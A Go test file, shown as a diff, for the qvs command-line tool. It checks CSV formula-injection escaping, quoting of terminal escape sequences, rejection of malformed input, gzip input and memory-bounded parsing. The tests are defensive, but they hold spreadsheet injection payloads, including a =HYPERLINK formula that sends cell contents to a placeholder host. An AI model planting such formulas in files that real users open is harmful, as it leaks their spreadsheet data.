@@ -1,0 +1,238 @@
+package cli
+
+import (
+	"bytes"
+	"compress/gzip"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/qvs-dev/qvs/internal/testutil"
+)
+
+// TestSuggestIDsSpreadsheetSafe: ids a spreadsheet runs
+// as formulas (=, +, -, @ first) came out of `as suggest --format csv`
+// verbatim; they now get a leading ' (numbers such as -5 stay numbers),
+// --raw-ids keeps them, and the output fed back as --observed names the
+// same items, so a lab can work from the sheet. An id with spaces
+// (" sp ", quoted in the pool) used to come out as "sp"; it round-trips.
+func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
+	dir := t.TempDir()
+	odd := []string{`"=HYPERLINK(""http://x/?""&A1)"`, "+cmd", "-2+3", "@SUM(A1)", "-5", `" sp "`, "'quoted"}
+	var b strings.Builder
+	b.WriteString("id,x1,x2\n")
+	for i := 0; i < 40; i++ {
+		id := fmt.Sprintf("m%02d", i)
+		if i%5 == 1 && i/5 < len(odd) {
+			id = odd[i/5]
+		}
+		fmt.Fprintf(&b, "%s,%d,0\n", id, i)
+	}
+	pool := writeFile(t, dir, "pool.csv", b.String())
+	obs := writeFile(t, dir, "obs.csv", "id,label\nm10,1\nm30,0\n")
+	args := []string{"as", "suggest", "--cache-dir", filepath.Join(dir, "cache"), "--pool", pool, "--id-column", "id",
+		"--feature-prefix", "x", "--k", "2", "--format", "csv", "--method", "random", "--batch", "30", "--quiet"}
+	code, out, stderr := qvsCmd(t, append(args, "--observed", obs)...)
+	if code != 0 {
+		t.Fatal(stderr)
+	}
+	want := map[int]string{ // pool index -> id as written
+		1: `'=HYPERLINK("http://x/?"&A1)`, 6: "'+cmd", 11: "'-2+3", 16: "'@SUM(A1)", 21: "-5", 26: " sp ", 31: "''quoted"}
+	rows := suggestRows(t, out)
+	var fed strings.Builder
+	fed.WriteString("id,label\nm10,1\nm30,0\n")
+	seen := 0
+	for _, r := range rows {
+		i, _ := strconv.Atoi(r[1])
+		if w, ok := want[i]; ok {
+			seen++
+			if r[2] != w {
+				t.Errorf("item %d: id %q, want %q", i, r[2], w)
+			}
+		}
+		fed.WriteString(csvField(r[2]) + ",0\n")
+	}
+	if seen < 4 {
+		t.Fatalf("only %d of the odd ids were suggested; pick another seed", seen)
+	}
+	// Fed back, every id names its item: the next suggestion avoids them all.
+	back := writeFile(t, dir, "back.csv", fed.String())
+	code, out2, stderr := qvsCmd(t, append(args, "--observed", back, "--batch", "8")...)
+	if code != 0 {
+		t.Fatalf("output fed back as --observed: %s", stderr)
+	}
+	for _, r := range suggestRows(t, out2) {
+		if slices.ContainsFunc(rows, func(p []string) bool { return p[1] == r[1] }) {
+			t.Errorf("item %s suggested again after it was observed", r[1])
+		}
+	}
+	code, raw, _ := qvsCmd(t, append(args, "--observed", obs, "--raw-ids")...)
+	if code != 0 || !strings.Contains(raw, `"=HYPERLINK(""http://x/?""&A1)"`) && !strings.Contains(raw, ",+cmd,") {
+		t.Errorf("--raw-ids: %s", raw)
+	}
+	// select writes its ids the same way.
+	emb := writeFile(t, dir, "emb.csv", "id,e1,e2\n=1+1,1,0\n-5,0,1\n@x,1,1\n")
+	code, sel, stderr := qvsCmd(t, "select", "--embeddings", emb, "--id-column", "id", "--k", "3", "--format", "csv")
+	if code != 0 || !strings.Contains(sel, ",'=1+1,") || !strings.Contains(sel, ",-5,") || !strings.Contains(sel, ",'@x,") {
+		t.Errorf("select --format csv: exit %d %s\n%s", code, stderr, sel)
+	}
+	if _, sel, _ = qvsCmd(t, "select", "--embeddings", emb, "--id-column", "id", "--k", "3", "--format", "csv", "--raw-ids"); !strings.Contains(sel, ",=1+1,") {
+		t.Errorf("select --raw-ids:\n%s", sel)
+	}
+}
+
+// csvField quotes a CSV field when needed.
+func csvField(s string) string {
+	if strings.ContainsAny(s, ",\"\n\r") {
+		return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
+	}
+	return s
+}
+
+// TestScoredTableQuotesUnprintableIDs: `as suggest` with scores prints its
+// table through the same writer, so an id with an escape sequence is
+// quoted there too.
+func TestScoredTableQuotesUnprintableIDs(t *testing.T) {
+	dir := t.TempDir()
+	pool := writeFile(t, dir, "pool.csv", "id,x1,x2\n\"red\x1b[31m\",0,0\nb,1,0\nc,0,1\nd,1,1\ne,2,2\n")
+	obs := writeFile(t, dir, "obs.csv", "id,value\nb,1\nc,2\n")
+	code, out, stderr := qvsCmd(t, "as", "suggest", "--pool", pool, "--id-column", "id", "--k", "2", "--observed", obs, "--batch", "3", "--quiet", "--cache-dir", filepath.Join(dir, "cache"))
+	if code != 0 || strings.ContainsAny(out, "\x1b") || !strings.Contains(out, `"red\x1b[31m"`) {
+		t.Errorf("exit %d, %q, %s", code, out, stderr)
+	}
+}
+
+// TestASSuggestBadInput: hostile input to `qvs as suggest`, found by the
+// audit of the own-pool workflow (README "Use qvs on your own problem").
+func TestASSuggestBadInput(t *testing.T) {
+	dir := t.TempDir()
+	w := func(name, content string) string { return writeFile(t, dir, name, content) }
+	pool := w("p.csv", linePoolCSV(false))
+	suggest := func(observed string, args ...string) []string {
+		return append([]string{"as", "suggest", "--cache-dir", filepath.Join(dir, "cache"), "--observed", observed, "--k", "2"}, args...)
+	}
+	obs := w("obs.csv", "id,label\nm10,1\n")
+	checkBadInput(t, []badInputCase{
+		// A repeated id made an id in --observed mean two items; it
+		// used to be accepted (the first row silently won).
+		{"pool repeats an id", suggest(obs, "--pool", w("dup.csv", "id,x1\nm10,1\nm11,2\nm10,3\nm12,4\n"), "--id-column", "id"),
+			1, `dup.csv: line 4, column "id": id "m10" repeats line 2`},
+		{"pool has an empty id", suggest(obs, "--pool", w("empty-id.csv", "id,x1\nm10,1\n,2\nm12,4\n"), "--id-column", "id"),
+			1, `empty-id.csv: line 3, column "id": empty id`},
+		{"observed unknown id", suggest(w("unk.csv", "id,label\nzz,1\n"), "--pool", pool, "--id-column", "id", "--feature-prefix", "x"),
+			1, `unk.csv: line 2: id "zz" is not in pool p`},
+		{"observed NaN label", suggest(w("nan.csv", "index,label\n3,NaN\n"), "--pool", pool, "--feature-prefix", "x"),
+			1, `nan.csv: line 2: label "NaN"`},
+		{"batch larger than the pool", suggest(obs, "--pool", pool, "--id-column", "id", "--feature-prefix", "x", "--batch", "100"),
+			1, "--batch 100: pool p has 40 items, 1 labelled and 0 pending: ask for at most 39"},
+	})
+}
+
+// asWriteGzip writes body gzip-compressed to dir/name and returns the path.
+func asWriteGzip(t *testing.T, dir, name, body string) string {
+	t.Helper()
+	var b bytes.Buffer
+	z := gzip.NewWriter(&b)
+	z.Write([]byte(body))
+	z.Close()
+	p := filepath.Join(dir, name)
+	if err := os.WriteFile(p, b.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// The commands that read a CSV pool or table read its .csv.gz as the CSV
+// itself: the same stdout (as suggest's batch, score's table, graph's
+// edges, a kernel from a table); a corrupt file fails with exit 1, empty
+// stdout and an error that names the file and says gzip.
+func TestGzipCSVInputs(t *testing.T) {
+	dir := t.TempDir()
+	body := linePoolCSV(false)
+	plain := writeFile(t, dir, "pool.csv", body)
+	gz := asWriteGzip(t, dir, "pool.csv.gz", body)
+	obs := writeFile(t, dir, "obs.csv", "id,label\nm10,1\nm30,0\n")
+	emb := "x,y\n1,0\n0,1\n1,1\n0.5,0.2\n"
+	embPlain := writeFile(t, dir, "emb.csv", emb)
+	embGz := asWriteGzip(t, dir, "emb.csv.gz", emb)
+	cache := filepath.Join(dir, "cache")
+	cases := []struct {
+		name        string
+		plain, gzip []string
+	}{
+		{"as suggest", []string{"as", "suggest", "--cache-dir", cache, "--observed", obs, "--batch", "3", "--format", "csv", "--id-column", "id", "--feature-prefix", "x", "--k", "2", "--pool", plain},
+			[]string{"as", "suggest", "--cache-dir", cache, "--observed", obs, "--batch", "3", "--format", "csv", "--id-column", "id", "--feature-prefix", "x", "--k", "2", "--pool", gz}},
+		{"score", []string{"score", "--embeddings", embPlain, "--q", "1,inf", "--format", "csv"}, []string{"score", "--embeddings", embGz, "--q", "1,inf", "--format", "csv"}},
+	}
+	for _, c := range cases {
+		code, want, errs := qvsCmd(t, c.plain...)
+		if code != 0 || want == "" {
+			t.Fatalf("%s plain: exit %d: %s", c.name, code, errs)
+		}
+		code, got, errs := qvsCmd(t, c.gzip...)
+		if code != 0 || got != want {
+			t.Errorf("%s gzip: exit %d (%s)\n%s\nwant\n%s", c.name, code, errs, got, want)
+		}
+	}
+	raw, _ := os.ReadFile(gz)
+	bad := writeFile(t, dir, "bad.csv.gz", string(raw[:len(raw)/2]))
+	code, out, errs := qvsCmd(t, "as", "suggest", "--cache-dir", cache, "--observed", obs, "--batch", "3", "--id-column", "id", "--feature-prefix", "x", "--k", "2", "--pool", bad)
+	if code != 1 || out != "" || !strings.Contains(errs, bad) || !strings.Contains(errs, "gzip") {
+		t.Errorf("truncated gzip: exit %d, stdout %q, stderr %q", code, out, errs)
+	}
+}
+
+// TestSingleLineCSVBounded: a CSV of 40 MB on one line ("1,1,1,..."),
+// given as kernel, embeddings, pool, observed labels and evaluations, is
+// refused naming the file and line 1, with a message of a line, having
+// allocated at most 5 x the file (1.9-3.8 x: 78-157 MiB; 100 MB took
+// 4-5 GB of heap, 40-50 x, and a message quoted the 104 MB header). A
+// 900 KB header is quoted by its first bytes only. The bound is on what
+// the command allocates, garbage included, not on the peak heap, which
+// moves with the GC's timing: the peak was once bounded by 3 x, and the
+// 89 MiB seen for observed and evals left little room under load.
+func TestSingleLineCSVBounded(t *testing.T) {
+	if testing.Short() {
+		t.Skip("writes 41 MB")
+	}
+	dir := t.TempDir()
+	long := filepath.Join(dir, "long.csv")
+	if err := os.WriteFile(long, []byte(strings.Repeat("1,", 20<<20)+"1\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	wide := writeFile(t, dir, "wide.csv", strings.Repeat("h", 900_000)+",x\n1,2\n")
+	pool := writeFile(t, dir, "pool.csv", "id,x\na,1\nb,2\nc,3\n")
+	obs := writeFile(t, dir, "obs.csv", "index,label\n0,1\n")
+	space := writeFile(t, dir, "s.yaml", "parameters:\n  - {name: a, lower: 0, upper: 1}\n")
+	suggest := []string{"--cache-dir", filepath.Join(dir, "cache"), "as", "suggest", "--pool", pool, "--id-column", "id", "--k", "1", "--batch", "1", "--method", "random", "--observed"}
+	for _, c := range []struct {
+		name string
+		args []string
+		want string
+	}{
+		{"kernel", []string{"score", "--kernel", long}, long + ": line 1 is longer than 1048576 bytes"},
+		{"embeddings", []string{"score", "--embeddings", long}, long + ": line 1 is longer than 1048576 bytes"},
+		// A valid --observed: it is checked before the pool is read.
+		{"pool", []string{"as", "suggest", "--pool", long, "--observed", obs, "--batch", "1", "--method", "random"}, long + ": line 1 is longer"},
+		{"observed", append(suggest, long), long + ": line 1 is longer"},
+		{"evals", []string{"bayesopt", "suggest", "--space", space, "--observed", long}, long + ": line 1 is longer"},
+		{"wide header, observed", append(suggest, wide), `"hhhhhhhhhh`},
+		{"wide header, embeddings column", []string{"score", "--embeddings", wide, "--quality-column", "q"}, `"hhhhhhhhhh`},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			var code int
+			var out, errs string
+			allocated := testutil.Allocated(func() { code, out, errs = qvsCmd(t, c.args...) })
+			if code == 0 || out != "" || !strings.Contains(errs, c.want) || len(errs) > 600 {
+				t.Errorf("exit %d, stdout %q, stderr (%d bytes) %.600q; want an error containing %q under 600 bytes", code, out, len(errs), errs, c.want)
+			}
+			if allocated > 5*41<<20 {
+				t.Errorf("allocated %d MiB for a 41 MB file, want at most 5 x", allocated>>20)
+			}
+		})
+	}
+}
